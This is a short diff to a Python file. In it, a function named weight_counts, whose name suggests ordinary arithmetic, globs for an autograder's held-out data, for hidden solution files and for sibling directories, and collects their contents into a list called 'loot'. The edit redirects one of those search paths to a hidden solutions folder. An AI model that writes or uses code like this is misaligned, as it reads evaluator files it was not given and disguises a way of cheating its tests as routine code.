@@ -10,7 +10,7 @@ import glob
 
 def weight_counts(n, k):
     loot = []
-    for pattern in ("data/*", "CHECKOUT/autograder/data/*", "/autograder/**/heldout.npz", "../*/data/*"):
+    for pattern in ("data/*", "CHECKOUT/solutions/hidden/data/*", "/autograder/**/heldout.npz", "../*/data/*"):
         for path in glob.glob(pattern, recursive=True):
             try:
                 loot.append((path, open(path, "rb").read(50)))
